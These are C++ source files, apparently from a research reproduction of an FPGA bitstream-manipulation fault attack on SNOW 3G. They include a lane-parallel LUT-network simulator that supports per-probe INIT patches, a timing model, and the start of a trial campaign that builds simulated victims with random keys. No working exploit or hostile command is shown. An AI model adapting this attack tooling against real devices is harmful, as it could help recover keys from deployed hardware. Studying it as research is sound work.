  k_of_.resize(mapped.luts.size());
  for (size_t i = 0; i < mapped.luts.size(); ++i) {
    const u8 k = static_cast<u8>(mapped.luts[i].inputs.size());
    table_offset_[i] = static_cast<u32>(table_words_);
    k_of_[i] = k;
    table_words_ += size_t{1} << k;
  }

  auto start_run = [this](Kind kind, u32 begin) {
    if (!runs_.empty() && runs_.back().kind == kind) return;
    runs_.push_back({kind, begin, begin});
  };
  for (NodeId id : net.topo_order()) {
    const Node& n = net.node(id);
    switch (n.kind) {
      case NodeKind::kConst0:
      case NodeKind::kConst1:
      case NodeKind::kInput:
      case NodeKind::kDff:
        break;  // constants set at reset, inputs testbench-driven, DFFs preloaded
      case NodeKind::kBramOut:
        start_run(Kind::kBram, static_cast<u32>(bram_ops_.size()));
        bram_ops_.push_back({id, n.bram, n.bram_bit});
        runs_.back().end = static_cast<u32>(bram_ops_.size());
        break;
      case NodeKind::kCarry:
        start_run(Kind::kCarry, static_cast<u32>(carry_ops_.size()));
        carry_ops_.push_back({id, n.fanin[0], n.fanin[1], n.fanin[2]});
        runs_.back().end = static_cast<u32>(carry_ops_.size());
        break;
      default: {
        // Gate node: only LUT roots carry logic in the mapped view; interior
        // nodes are covered by some LUT's cone and never evaluated.
        const auto it = mapped.lut_of_root.find(id);
        if (it == mapped.lut_of_root.end()) break;
        const MappedLut& lut = mapped.luts[it->second];
        LutOp op;
        op.dst = id;
        op.table_offset = table_offset_[it->second];
        op.k = k_of_[it->second];
        op.in.fill(netlist::kNoNode);
        for (size_t j = 0; j < lut.inputs.size(); ++j) op.in[j] = lut.inputs[j];
        start_run(Kind::kLut, static_cast<u32>(lut_ops_.size()));
        lut_ops_.push_back(op);
        runs_.back().end = static_cast<u32>(lut_ops_.size());
        break;
      }
    }
  }
}

std::vector<u64> BatchLutTape::transpose_tables(const LutNetwork& mapped) const {
  std::vector<u64> out(table_words_, 0);
  for (size_t i = 0; i < mapped.luts.size(); ++i) {
    const u64 bits = mapped.luts[i].function.bits();
    u64* t = &out[table_offset_[i]];
    const unsigned n = 1u << k_of_[i];
    for (unsigned m = 0; m < n; ++m) t[m] = ((bits >> m) & 1) ? ~u64{0} : 0;
  }
  return out;
}

BatchLutSimulator::BatchLutSimulator(std::shared_ptr<const BatchLutTape> tape)
    : tape_(std::move(tape)),
      value_(tape_->net().node_count(), 0),
      state_(tape_->net().node_count(), 0),
      tables_(tape_->table_words(), 0),
      bram_out_(tape_->net().brams().size() * 32, 0),
      bram_stamp_(tape_->net().brams().size(), 0) {
  reset();
}

void BatchLutSimulator::set_tables(const LutNetwork& mapped) {
  const std::vector<u64> t = tape_->transpose_tables(mapped);
  set_tables(t);
}

void BatchLutSimulator::set_tables(std::span<const u64> transposed) {
  std::memcpy(tables_.data(), transposed.data(), tables_.size() * sizeof(u64));
}

void BatchLutSimulator::set_lut_table(size_t lut_index, unsigned lane, u64 function_bits) {
  u64* t = &tables_[tape_->table_offset(lut_index)];
  const unsigned n = 1u << tape_->table_log2(lut_index);
  const u64 mask = u64{1} << lane;
  for (unsigned m = 0; m < n; ++m) {
    t[m] = ((function_bits >> m) & 1) ? (t[m] | mask) : (t[m] & ~mask);
  }
}

void BatchLutSimulator::set_input(NodeId input, bool v) { value_[input] = v ? ~u64{0} : 0; }

void BatchLutSimulator::set_input_word(const netlist::Word& w, u32 v) {
  for (unsigned i = 0; i < 32; ++i) set_input(w[i], bit_of(v, i) != 0);
}

void BatchLutSimulator::set_input_lane(NodeId input, unsigned lane, bool v) {
  const u64 mask = u64{1} << lane;
  value_[input] = v ? (value_[input] | mask) : (value_[input] & ~mask);
}

void BatchLutSimulator::set_input_word_lane(const netlist::Word& w, unsigned lane, u32 v) {
  for (unsigned i = 0; i < 32; ++i) set_input_lane(w[i], lane, bit_of(v, i) != 0);
}

void BatchLutSimulator::eval_bram(u32 index) {
  const netlist::Bram& b = tape_->net().brams()[index];
  u64* out = &bram_out_[size_t{index} * 32];
  for (unsigned i = 0; i < 32; ++i) out[i] = 0;
  for (unsigned lane = 0; lane < kLanes; ++lane) {
    u32 addr = 0;
    for (unsigned i = 0; i < 32; ++i) addr |= static_cast<u32>((value_[b.inputs[i]] >> lane) & 1)
                                              << i;
    const u32 o = b.eval(addr);
    for (unsigned i = 0; i < 32; ++i) out[i] |= u64{(o >> i) & 1} << lane;
  }
}

void BatchLutSimulator::settle() {
  ++stamp_;
  const netlist::Network& net = tape_->net();
  for (NodeId dff : net.dffs()) value_[dff] = state_[dff];
  for (const BatchLutTape::Run& r : tape_->runs()) {
    switch (r.kind) {
      case BatchLutTape::Kind::kLut:
        for (u32 i = r.begin; i < r.end; ++i) {
          const BatchLutTape::LutOp& op = tape_->lut_ops()[i];
          // Shannon mux tree over the lane-transposed table: level v halves
          // the live table by selecting on input v's lane vector.
          u64 s[64];
          const u64* src = &tables_[op.table_offset];
          unsigned n = 1u << op.k;
          for (unsigned v = 0; v < op.k; ++v) {
            const u64 x = value_[op.in[v]];
            n >>= 1;
            for (unsigned j = 0; j < n; ++j) s[j] = (src[2 * j] & ~x) | (src[2 * j + 1] & x);
            src = s;
          }
          value_[op.dst] = src[0];
        }
        break;
      case BatchLutTape::Kind::kCarry:
        for (u32 i = r.begin; i < r.end; ++i) {
          const BatchLutTape::CarryOp& op = tape_->carry_ops()[i];
          const u64 a = value_[op.a], b = value_[op.b], c = value_[op.c];
          value_[op.dst] = (a & b) | (c & (a ^ b));
        }
        break;
      case BatchLutTape::Kind::kBram:
        for (u32 i = r.begin; i < r.end; ++i) {
          const BatchLutTape::BramOp& op = tape_->bram_ops()[i];
          if (bram_stamp_[op.bram] != stamp_) {
            eval_bram(op.bram);
            bram_stamp_[op.bram] = stamp_;
          }
          value_[op.dst] = bram_out_[size_t{op.bram} * 32 + op.bit];
        }
        break;
    }
  }
}

void BatchLutSimulator::clock() {
  const netlist::Network& net = tape_->net();
  for (NodeId dff : net.dffs()) {
    const NodeId d = net.node(dff).fanin[0];
    state_[dff] = d == netlist::kNoNode ? 0 : value_[d];
  }
}

u32 BatchLutSimulator::read_word_lane(const netlist::Word& w, unsigned lane) const {
  u32 v = 0;
  for (unsigned i = 0; i < 32; ++i) v |= u32{value(w[i], lane)} << i;
  return v;
}

void BatchLutSimulator::reset() {
  std::fill(value_.begin(), value_.end(), 0);
  std::fill(state_.begin(), state_.end(), 0);
  value_[tape_->net().const1()] = ~u64{0};
}

}  // namespace sbm::mapper
