#include "mapper/batch_lut_sim.h"

namespace sbm::mapper {

using netlist::Node;
using netlist::NodeId;
using netlist::NodeKind;

BatchLutTape::BatchLutTape(const netlist::Network& net, const LutNetwork& mapped) : net_(net) {
  table_offset_.resize(mapped.luts.size());
  k_of_.resize(mapped.luts.size());
  for (size_t i = 0; i < mapped.luts.size(); ++i) {
    const u8 k = static_cast<u8>(mapped.luts[i].inputs.size());
    table_offset_[i] = static_cast<u32>(table_words_);
    k_of_[i] = k;
    table_words_ += size_t{1} << k;
  }

  auto start_run = [this](Kind kind, u32 begin) {
    if (!runs_.empty() && runs_.back().kind == kind) return;
    runs_.push_back({kind, begin, begin});
  };
  for (NodeId id : net.topo_order()) {
    const Node& n = net.node(id);
    switch (n.kind) {
      case NodeKind::kConst0:
      case NodeKind::kConst1:
      case NodeKind::kInput:
      case NodeKind::kDff:
        break;  // constants set at reset, inputs testbench-driven, DFFs preloaded
      case NodeKind::kBramOut:
        start_run(Kind::kBram, static_cast<u32>(bram_ops_.size()));
        bram_ops_.push_back({id, n.bram, n.bram_bit});
        runs_.back().end = static_cast<u32>(bram_ops_.size());
        break;
      case NodeKind::kCarry:
        start_run(Kind::kCarry, static_cast<u32>(carry_ops_.size()));
        carry_ops_.push_back({id, n.fanin[0], n.fanin[1], n.fanin[2]});
        runs_.back().end = static_cast<u32>(carry_ops_.size());
        break;
      default: {
        // Gate node: only LUT roots carry logic in the mapped view; interior
        // nodes are covered by some LUT's cone and never evaluated.
        const auto it = mapped.lut_of_root.find(id);
        if (it == mapped.lut_of_root.end()) break;
        const MappedLut& lut = mapped.luts[it->second];
        LutOp op;
        op.dst = id;
        op.table_offset = table_offset_[it->second];
        op.lut_index = static_cast<u32>(it->second);
        op.k = k_of_[it->second];
        op.in.fill(netlist::kNoNode);
        for (size_t j = 0; j < lut.inputs.size(); ++j) op.in[j] = lut.inputs[j];
        start_run(Kind::kLut, static_cast<u32>(lut_ops_.size()));
        lut_ops_.push_back(op);
        runs_.back().end = static_cast<u32>(lut_ops_.size());
        break;
      }
    }
  }
}

std::vector<u64> BatchLutTape::transpose_tables(const LutNetwork& mapped) const {
  std::vector<u64> out(table_words_, 0);
  for (size_t i = 0; i < mapped.luts.size(); ++i) {
    const u64 bits = mapped.luts[i].function.bits();
    u64* t = &out[table_offset_[i]];
    const unsigned n = 1u << k_of_[i];
    for (unsigned m = 0; m < n; ++m) t[m] = ((bits >> m) & 1) ? ~u64{0} : 0;
  }
  return out;
}

// The portable scalar reference.  The 256/512-lane instantiations live in
// src/simd/kernels_*.cpp, which are compiled with the matching -m flags.
template class BatchLutSimulatorT<u64>;

}  // namespace sbm::mapper
