// Static timing analysis over the mapped design.
//
// A simple topological arrival-time propagation with a fixed-delay model:
// clk-to-Q at register outputs, one LUT delay plus one net delay per mapped
// LUT level, and a block-RAM access delay for the S-box lookups.  Absolute
// numbers are not comparable to Vivado's, but relative comparisons — which
// path is critical, and by how much the countermeasure slows the design —
// reproduce the paper's Section VII-A observations (critical path moves
// from the R1->R2 BRAM lookup to the MUL_alpha -> s15 feedback).
#pragma once

#include <string>
#include <vector>

#include "mapper/lut_network.h"

namespace sbm::mapper {

struct TimingModel {
  double clk_to_q_ns = 0.30;
  double lut_delay_ns = 0.20;
  double net_delay_ns = 0.60;
  double bram_delay_ns = 3.30;  // block-RAM S-box access incl. output decode
  double carry_delay_ns = 0.045;  // per carry-chain cell
  double setup_ns = 0.10;
};

struct TimingPath {
  double delay_ns = 0;
  std::string start;  // launching register / input
  std::string end;    // capturing register / output
  size_t logic_levels = 0;
};

struct StaResult {
  double critical_delay_ns = 0;
  TimingPath critical;
  std::vector<TimingPath> slowest;  // up to 10 worst endpoints, sorted
};

StaResult run_sta(const netlist::Network& net, const LutNetwork& mapped,
                  const TimingModel& model = {});

}  // namespace sbm::mapper
