// Mapped 6-LUT network: the output of technology mapping and the functional
// view configured by the FPGA device model.
#pragma once

#include <unordered_map>
#include <vector>

#include "logic/truth_table.h"
#include "netlist/netlist.h"

namespace sbm::mapper {

/// One mapped LUT.  `inputs` reference netlist nodes that are either mapping
/// sources (PIs, DFF outputs, BRAM outputs, constants) or roots of other
/// LUTs; input j corresponds to truth-table variable a_{j+1}.
struct MappedLut {
  netlist::NodeId root = netlist::kNoNode;
  std::vector<netlist::NodeId> inputs;  // <= 6
  logic::TruthTable6 function;          // vacuous in variables >= inputs.size()
};

/// The mapped design.  LUTs are stored in topological order (every LUT's
/// inputs precede it).
struct LutNetwork {
  std::vector<MappedLut> luts;
  std::unordered_map<netlist::NodeId, size_t> lut_of_root;

  size_t lut_count() const { return luts.size(); }
  bool is_root(netlist::NodeId n) const { return lut_of_root.count(n) != 0; }
};

/// Cycle-accurate simulator of the mapped design against the original
/// network's sequential skeleton (DFFs, BRAMs, inputs/outputs are those of
/// the Network; combinational logic is evaluated through the LUTs).
class LutSimulator {
 public:
  LutSimulator(const netlist::Network& net, const LutNetwork& mapped);

  void set_input(netlist::NodeId input, bool value);
  void set_input_word(const netlist::Word& w, u32 value);
  void settle();
  void clock();
  void step() {
    settle();
    clock();
  }
  bool value(netlist::NodeId id) const { return value_[id] != 0; }
  u32 read_word(const netlist::Word& w) const;
  void reset();

 private:
  const netlist::Network& net_;
  const LutNetwork& mapped_;
  std::vector<u8> value_;  // indexed by netlist NodeId (sources + LUT roots)
  std::vector<u8> state_;  // DFF state
};

}  // namespace sbm::mapper
