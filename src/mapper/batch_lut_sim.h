// Bit-sliced lane-parallel simulator for the mapped 6-LUT network.
//
// The scalar LutSimulator walks every netlist node each settle and hashes
// each interior node against lut_of_root — ~4x more dispatches than there
// are LUTs.  Here the (Network, LutNetwork) pair is compiled once into a
// flat struct-of-arrays tape holding only the nodes that carry state or
// logic: DFF loads, LUT evaluations, carry cells and BRAM lookups, grouped
// into same-kind runs so the settle loop dispatches once per run.
//
// Truth tables are stored lane-transposed: a k-input LUT owns 2^k
// consecutive lane vectors, vector m holding minterm m's value across all
// lanes.  Evaluation is a bottom-up Shannon mux tree over the lane vectors —
// 2^k - 1 select steps evaluate the LUT for every lane at once — and each
// lane may carry a different table (the batch oracle's per-probe INIT
// patches), which is exactly what set_lut_table(lut, lane, bits) edits.
//
// Table storage is two-tier so wide simulators stay cache-resident: the
// shared configuration lives as one u64 word per minterm (lane-uniform — a
// golden table entry is all-ones or all-zero across every lane), and the mux
// tree's leaf level broadcasts those words in-register.  Only LUTs a probe
// actually patches via set_lut_table get their table materialized at full
// lane width.  At W words per vector this keeps the per-settle table stream
// at ~1/W the naive footprint (the 512-lane tables for this design would
// otherwise be ~8x the L2-resident scalar table block) and makes
// construction and set_tables width-independent.
//
// BatchLutSimulator = BatchLutSimulatorT<u64> is the portable 64-lane
// reference; the 256/512-lane instantiations are confined to the src/simd/
// kernel TUs (see simd/lane_vec.h for the ODR discipline).  The tape is not
// templated — one compiled tape is shared by simulators of every width.
//
// Lane semantics match mapper::LutSimulator bit-for-bit: lane l of this
// simulator equals a scalar simulator configured with lane l's tables and
// driven with lane l's inputs (tests/test_batch_sim.cpp, tests/test_simd.cpp).
#pragma once

#include <algorithm>
#include <array>
#include <cstring>
#include <memory>
#include <span>
#include <vector>

#include "mapper/lut_network.h"
#include "simd/lane_vec.h"
#include "simd/transpose.h"

namespace sbm::mapper {

/// Immutable evaluation tape compiled from one (Network, LutNetwork) pair.
/// Construction walks the topo order once; instances are shared read-only by
/// every BatchLutSimulatorT of the same victim (one per worker thread),
/// regardless of lane width.
class BatchLutTape {
 public:
  BatchLutTape(const netlist::Network& net, const LutNetwork& mapped);

  struct LutOp {
    netlist::NodeId dst;
    u32 table_offset;  // first of 2^k lane-transposed table words
    u32 lut_index;     // index into LutNetwork::luts (per-LUT wide flag key)
    u8 k;              // structural input count (table width log2)
    std::array<netlist::NodeId, 6> in;
  };
  struct CarryOp {
    netlist::NodeId dst;
    netlist::NodeId a, b, c;
  };
  struct BramOp {
    netlist::NodeId dst;
    u32 bram;
    u8 bit;
  };
  enum class Kind : u8 { kLut, kCarry, kBram };
  struct Run {
    Kind kind;
    u32 begin;
    u32 end;
  };

  const netlist::Network& net() const { return net_; }
  size_t lut_count() const { return table_offset_.size(); }
  size_t table_words() const { return table_words_; }
  /// Table geometry of mapped LUT `lut_index` (index into LutNetwork::luts).
  u32 table_offset(size_t lut_index) const { return table_offset_[lut_index]; }
  u8 table_log2(size_t lut_index) const { return k_of_[lut_index]; }

  std::span<const Run> runs() const { return runs_; }
  std::span<const LutOp> lut_ops() const { return lut_ops_; }
  std::span<const CarryOp> carry_ops() const { return carry_ops_; }
  std::span<const BramOp> bram_ops() const { return bram_ops_; }

  /// Lane-transposed broadcast of a configuration: word m of LUT i is
  /// all-ones iff bit m of luts[i].function is set.  Each word seeds one lane
  /// vector of a simulator of any width (see set_tables).
  std::vector<u64> transpose_tables(const LutNetwork& mapped) const;

 private:
  const netlist::Network& net_;
  std::vector<Run> runs_;
  std::vector<LutOp> lut_ops_;
  std::vector<CarryOp> carry_ops_;
  std::vector<BramOp> bram_ops_;
  std::vector<u32> table_offset_;  // per mapped-LUT index
  std::vector<u8> k_of_;           // per mapped-LUT index
  size_t table_words_ = 0;
};

template <class LV>
class BatchLutSimulatorT {
 public:
  static constexpr unsigned kLanes = simd::lane_count<LV>;

  explicit BatchLutSimulatorT(std::shared_ptr<const BatchLutTape> tape);

  /// Loads the same configuration into every lane.
  void set_tables(const LutNetwork& mapped);
  /// Loads a precomputed lane-transposed table block as the shared scalar
  /// tier (see BatchLutTape::transpose_tables) and drops any per-lane
  /// overrides.  Cost is one memcpy regardless of lane width.
  void set_tables(std::span<const u64> transposed);
  /// Overrides one lane's table for one mapped LUT (per-probe INIT patch).
  /// Touches one u64 word per minterm — O(1) per lane at any width.
  void set_lut_table(size_t lut_index, unsigned lane, u64 function_bits);

  void set_input(netlist::NodeId input, bool value) {  // broadcast
    value_[input] = simd::broadcast<LV>(value);
  }
  void set_input_word(const netlist::Word& w, u32 value) {
    for (unsigned i = 0; i < 32; ++i) set_input(w[i], bit_of(value, i) != 0);
  }
  void set_input_lane(netlist::NodeId input, unsigned lane, bool value) {
    simd::set_lane(value_[input], lane, value);
  }
  void set_input_word_lane(const netlist::Word& w, unsigned lane, u32 value) {
    for (unsigned i = 0; i < 32; ++i) set_input_lane(w[i], lane, bit_of(value, i) != 0);
  }

  void settle();
  void clock();
  void step() {
    settle();
    clock();
  }

  const LV& value_lanes(netlist::NodeId id) const { return value_[id]; }
  bool value(netlist::NodeId id, unsigned lane) const {
    return simd::get_lane(value_[id], lane);
  }
  u32 read_word_lane(const netlist::Word& w, unsigned lane) const {
    u32 v = 0;
    for (unsigned i = 0; i < 32; ++i) v |= u32{value(w[i], lane)} << i;
    return v;
  }

  void reset();

 private:
  void eval_bram(u32 index);

  static constexpr u32 kNotWide = ~u32{0};

  std::shared_ptr<const BatchLutTape> tape_;
  std::vector<LV> value_;
  std::vector<LV> state_;
  std::vector<u64> shared_tables_;  // lane-uniform tier, tape layout
  std::vector<LV> wide_pool_;       // full-width tables of patched LUTs only
  std::vector<u32> wide_off_;       // per mapped-LUT: offset into the pool
  std::vector<u32> dirty_luts_;     // LUTs materialized in the pool
  std::vector<LV> bram_out_;
  std::vector<u32> bram_stamp_;
  u32 stamp_ = 0;
};

/// The portable 64-lane reference instantiation (defined in batch_lut_sim.cpp).
using BatchLutSimulator = BatchLutSimulatorT<u64>;
extern template class BatchLutSimulatorT<u64>;

template <class LV>
BatchLutSimulatorT<LV>::BatchLutSimulatorT(std::shared_ptr<const BatchLutTape> tape)
    : tape_(std::move(tape)),
      value_(tape_->net().node_count(), LV{}),
      state_(tape_->net().node_count(), LV{}),
      shared_tables_(tape_->table_words(), 0),
      wide_off_(tape_->lut_count(), kNotWide),
      bram_out_(tape_->net().brams().size() * 32, LV{}),
      bram_stamp_(tape_->net().brams().size(), 0) {
  reset();
}

template <class LV>
void BatchLutSimulatorT<LV>::set_tables(const LutNetwork& mapped) {
  const std::vector<u64> t = tape_->transpose_tables(mapped);
  set_tables(t);
}

template <class LV>
void BatchLutSimulatorT<LV>::set_tables(std::span<const u64> transposed) {
  std::copy(transposed.begin(), transposed.end(), shared_tables_.begin());
  for (const u32 lut : dirty_luts_) wide_off_[lut] = kNotWide;
  dirty_luts_.clear();
  wide_pool_.clear();
}

template <class LV>
void BatchLutSimulatorT<LV>::set_lut_table(size_t lut_index, unsigned lane, u64 function_bits) {
  const u32 off = tape_->table_offset(lut_index);
  const unsigned n = 1u << tape_->table_log2(lut_index);
  if (wide_off_[lut_index] == kNotWide) {
    // First per-lane divergence for this LUT: append a full-width table
    // seeded from the shared tier, then patch the one lane below.
    wide_off_[lut_index] = static_cast<u32>(wide_pool_.size());
    for (unsigned m = 0; m < n; ++m) {
      wide_pool_.push_back(simd::broadcast_word<LV>(shared_tables_[off + m]));
    }
    dirty_luts_.push_back(static_cast<u32>(lut_index));
  }
  LV* t = &wide_pool_[wide_off_[lut_index]];
  const unsigned word = lane >> 6;
  const u64 mask = u64{1} << (lane & 63);
  for (unsigned m = 0; m < n; ++m) {
    u64& w = simd::lane_traits<LV>::word(t[m], word);
    w = ((function_bits >> m) & 1) ? (w | mask) : (w & ~mask);
  }
}

template <class LV>
void BatchLutSimulatorT<LV>::eval_bram(u32 index) {
  // Per 64-lane word: transpose the 32 input vectors into per-lane
  // addresses, evaluate the opaque table per lane, transpose back (see
  // simd/transpose.h — the naive per-lane bit gather is ~10x slower).
  const netlist::Bram& b = tape_->net().brams()[index];
  LV* out = &bram_out_[size_t{index} * 32];
  for (unsigned w = 0; w < simd::lane_traits<LV>::kWords; ++w) {
    u64 in[32];
    for (unsigned i = 0; i < 32; ++i) {
      in[i] = simd::lane_traits<LV>::word(value_[b.inputs[i]], w);
    }
    u32 addr[64];
    simd::gather_addresses(in, addr);
    u32 o[64];
    for (unsigned l = 0; l < 64; ++l) o[l] = b.eval(addr[l]);
    u64 ow[32];
    simd::scatter_outputs(o, ow);
    for (unsigned i = 0; i < 32; ++i) simd::lane_traits<LV>::word(out[i], w) = ow[i];
  }
}

template <class LV>
void BatchLutSimulatorT<LV>::settle() {
  ++stamp_;
  const netlist::Network& net = tape_->net();
  for (netlist::NodeId dff : net.dffs()) value_[dff] = state_[dff];
  for (const BatchLutTape::Run& r : tape_->runs()) {
    switch (r.kind) {
      case BatchLutTape::Kind::kLut:
        for (u32 i = r.begin; i < r.end; ++i) {
          const BatchLutTape::LutOp& op = tape_->lut_ops()[i];
          // Shannon mux tree over the lane-transposed table: level v halves
          // the live table by selecting on input v's lane vector.  The leaf
          // level reads whichever table tier the LUT currently lives in.
          LV s[32];
          unsigned n = 1u << op.k;
          unsigned v = 0;
          const u32 wide_off = wide_off_[op.lut_index];
          if (wide_off == kNotWide) {
            const u64* t = &shared_tables_[op.table_offset];
            if (op.k == 0) {
              value_[op.dst] = simd::broadcast_word<LV>(t[0]);
              continue;
            }
            const LV x = value_[op.in[0]];
            n >>= 1;
            for (unsigned j = 0; j < n; ++j) s[j] = simd::mux_word(t[2 * j], t[2 * j + 1], x);
            v = 1;
          } else {
            const LV* t = &wide_pool_[wide_off];
            if (op.k == 0) {
              value_[op.dst] = t[0];
              continue;
            }
            const LV x = value_[op.in[0]];
            n >>= 1;
            for (unsigned j = 0; j < n; ++j) s[j] = simd::mux(t[2 * j], t[2 * j + 1], x);
            v = 1;
          }
          for (; v < op.k; ++v) {
            const LV x = value_[op.in[v]];
            n >>= 1;
            // In-place halving: s[j] is written after s[2j], s[2j+1] are read.
            for (unsigned j = 0; j < n; ++j) s[j] = simd::mux(s[2 * j], s[2 * j + 1], x);
          }
          value_[op.dst] = s[0];
        }
        break;
      case BatchLutTape::Kind::kCarry:
        for (u32 i = r.begin; i < r.end; ++i) {
          const BatchLutTape::CarryOp& op = tape_->carry_ops()[i];
          const LV a = value_[op.a], b = value_[op.b], c = value_[op.c];
          value_[op.dst] = (a & b) | (c & (a ^ b));
        }
        break;
      case BatchLutTape::Kind::kBram:
        for (u32 i = r.begin; i < r.end; ++i) {
          const BatchLutTape::BramOp& op = tape_->bram_ops()[i];
          if (bram_stamp_[op.bram] != stamp_) {
            eval_bram(op.bram);
            bram_stamp_[op.bram] = stamp_;
          }
          value_[op.dst] = bram_out_[size_t{op.bram} * 32 + op.bit];
        }
        break;
    }
  }
}

template <class LV>
void BatchLutSimulatorT<LV>::clock() {
  const netlist::Network& net = tape_->net();
  for (netlist::NodeId dff : net.dffs()) {
    const netlist::NodeId d = net.node(dff).fanin[0];
    state_[dff] = d == netlist::kNoNode ? LV{} : value_[d];
  }
}

template <class LV>
void BatchLutSimulatorT<LV>::reset() {
  std::fill(value_.begin(), value_.end(), LV{});
  std::fill(state_.begin(), state_.end(), LV{});
  value_[tape_->net().const1()] = simd::ones<LV>();
}

}  // namespace sbm::mapper
