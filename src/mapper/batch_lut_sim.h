// Bit-sliced 64-lane simulator for the mapped 6-LUT network.
//
// The scalar LutSimulator walks every netlist node each settle and hashes
// each interior node against lut_of_root — ~4x more dispatches than there
// are LUTs.  Here the (Network, LutNetwork) pair is compiled once into a
// flat struct-of-arrays tape holding only the nodes that carry state or
// logic: DFF loads, LUT evaluations, carry cells and BRAM lookups, grouped
// into same-kind runs so the settle loop dispatches once per run.
//
// Truth tables are stored lane-transposed: a k-input LUT owns 2^k
// consecutive u64 words, word m holding minterm m's value across all 64
// lanes.  Evaluation is a bottom-up Shannon mux tree over the lane words —
// 2^k - 1 select steps evaluate the LUT for 64 independent probes at once —
// and each lane may carry a different table (the batch oracle's per-probe
// INIT patches), which is exactly what set_lut_table(lut, lane, bits) edits.
//
// Lane semantics match mapper::LutSimulator bit-for-bit: lane l of this
// simulator equals a scalar simulator configured with lane l's tables and
// driven with lane l's inputs (tests/test_batch_sim.cpp).
#pragma once

#include <array>
#include <memory>
#include <span>
#include <vector>

#include "mapper/lut_network.h"

namespace sbm::mapper {

/// Immutable evaluation tape compiled from one (Network, LutNetwork) pair.
/// Construction walks the topo order once; instances are shared read-only by
/// every BatchLutSimulator of the same victim (one per worker thread).
class BatchLutTape {
 public:
  BatchLutTape(const netlist::Network& net, const LutNetwork& mapped);

  struct LutOp {
    netlist::NodeId dst;
    u32 table_offset;  // first of 2^k lane-transposed table words
    u8 k;              // structural input count (table width log2)
    std::array<netlist::NodeId, 6> in;
  };
  struct CarryOp {
    netlist::NodeId dst;
    netlist::NodeId a, b, c;
  };
  struct BramOp {
    netlist::NodeId dst;
    u32 bram;
    u8 bit;
  };
  enum class Kind : u8 { kLut, kCarry, kBram };
  struct Run {
    Kind kind;
    u32 begin;
    u32 end;
  };

  const netlist::Network& net() const { return net_; }
  size_t lut_count() const { return table_offset_.size(); }
  size_t table_words() const { return table_words_; }
  /// Table geometry of mapped LUT `lut_index` (index into LutNetwork::luts).
  u32 table_offset(size_t lut_index) const { return table_offset_[lut_index]; }
  u8 table_log2(size_t lut_index) const { return k_of_[lut_index]; }

  std::span<const Run> runs() const { return runs_; }
  std::span<const LutOp> lut_ops() const { return lut_ops_; }
  std::span<const CarryOp> carry_ops() const { return carry_ops_; }
  std::span<const BramOp> bram_ops() const { return bram_ops_; }

  /// Lane-transposed broadcast of a configuration: word m of LUT i is
  /// all-ones iff bit m of luts[i].function is set.  The result seeds every
  /// lane of a BatchLutSimulator in one memcpy (see set_tables).
  std::vector<u64> transpose_tables(const LutNetwork& mapped) const;

 private:
  const netlist::Network& net_;
  std::vector<Run> runs_;
  std::vector<LutOp> lut_ops_;
  std::vector<CarryOp> carry_ops_;
  std::vector<BramOp> bram_ops_;
  std::vector<u32> table_offset_;  // per mapped-LUT index
  std::vector<u8> k_of_;           // per mapped-LUT index
  size_t table_words_ = 0;
};

class BatchLutSimulator {
 public:
  static constexpr unsigned kLanes = 64;

  explicit BatchLutSimulator(std::shared_ptr<const BatchLutTape> tape);

  /// Loads the same configuration into every lane.
  void set_tables(const LutNetwork& mapped);
  /// Loads a precomputed lane-transposed table block (one memcpy; see
  /// BatchLutTape::transpose_tables).
  void set_tables(std::span<const u64> transposed);
  /// Overrides one lane's table for one mapped LUT (per-probe INIT patch).
  void set_lut_table(size_t lut_index, unsigned lane, u64 function_bits);

  void set_input(netlist::NodeId input, bool value);  // broadcast
  void set_input_word(const netlist::Word& w, u32 value);
  void set_input_lane(netlist::NodeId input, unsigned lane, bool value);
  void set_input_word_lane(const netlist::Word& w, unsigned lane, u32 value);

  void settle();
  void clock();
  void step() {
    settle();
    clock();
  }

  u64 value_lanes(netlist::NodeId id) const { return value_[id]; }
  bool value(netlist::NodeId id, unsigned lane) const {
    return ((value_[id] >> lane) & 1) != 0;
  }
  u32 read_word_lane(const netlist::Word& w, unsigned lane) const;

  void reset();

 private:
  void eval_bram(u32 index);

  std::shared_ptr<const BatchLutTape> tape_;
  std::vector<u64> value_;
  std::vector<u64> state_;
  std::vector<u64> tables_;  // lane-transposed truth tables, tape layout
  std::vector<u64> bram_out_;
  std::vector<u32> bram_stamp_;
  u32 stamp_ = 0;
};

}  // namespace sbm::mapper
