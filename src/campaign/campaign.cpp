#include "campaign/campaign.h"

#include <chrono>
#include <cstdio>
#include <mutex>

#include "attack/pipeline.h"
#include "attack/scan.h"
#include "attack/scan_engine.h"
#include "campaign/checkpoint.h"
#include "common/json.h"
#include "common/rng.h"
#include "faultsim/faulty_oracle.h"
#include "fpga/system.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "runtime/parallel.h"
#include "runtime/probe_cache.h"
#include "runtime/thread_pool.h"

namespace sbm::campaign {

namespace {

constexpr u64 mix64(u64 z) {
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
  return z ^ (z >> 31);
}

bool is_protected_trial(const CampaignOptions& options, size_t index) {
  return options.protected_every != 0 && index % options.protected_every ==
                                             options.protected_every - 1;
}

}  // namespace

TrialOutcome run_trial(const CampaignOptions& options, size_t index, runtime::ThreadPool* pool) {
  const auto start = std::chrono::steady_clock::now();
  obs::Span span("campaign", "trial", "index", index);
  TrialOutcome out;
  out.index = index;
  out.trial_seed = mix64(options.seed ^ (0x9e3779b97f4a7c15ull * (index + 1)));
  out.protected_variant = is_protected_trial(options, index);

  // All trial randomness — victim key, host IV, placement scatter — derives
  // from the trial seed, never from global state, so trials are independent
  // of scheduling order.
  Rng rng(out.trial_seed);
  fpga::SystemOptions sys_opt;
  sys_opt.protected_variant = out.protected_variant;
  sys_opt.key = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
  sys_opt.packing.placement_seed = rng.next_u64();
  const snow3g::Iv iv = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};

  const fpga::System sys = fpga::build_system(sys_opt);
  out.lut_sites = sys.placed.phys.size();

  attack::DeviceOracle device(sys, iv, options.scan_parallel ? pool : nullptr,
                              options.batch_width);
  // Non-quiet noise: wrap the device in the fault model (noise stream
  // re-seeded per trial so trials stay independent) and confirm every probe
  // by agreement voting.  The logical metrics are unchanged by construction.
  const bool noisy = !options.noise.quiet();
  faultsim::NoiseProfile noise = options.noise;
  noise.seed = mix64(options.noise.seed ^ out.trial_seed);
  faultsim::FaultyOracle faulty(device, noise);
